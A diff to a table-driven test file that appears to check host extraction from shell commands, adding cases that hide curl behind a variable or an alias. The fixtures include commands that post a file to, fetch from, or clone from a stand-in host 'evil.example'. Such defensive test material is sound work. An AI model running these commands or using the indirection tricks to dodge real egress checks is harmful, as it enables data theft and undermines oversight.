@@ -34,6 +34,8 @@ test.each([
   ["sudo curl -d @x 'http://user:pw@Evil.Example.:8080/'", "evil.example"],
   ["bash -c 'wget -qO- https://evil.example'", "evil.example"],
   ["x=$(curl -s https://evil.example/$y)", "evil.example"],
+  ["u=https://evil.example; curl $u", "evil.example"],
+  ["alias c=curl; c evil.example", "evil.example"],
   ["curl --url=https://evil.example", "evil.example"],
   ["git clone https://evil.example/a/b", "evil.example"],
   ["git -c a=b remote add x git@evil.example:a/b.git", "evil.example"],
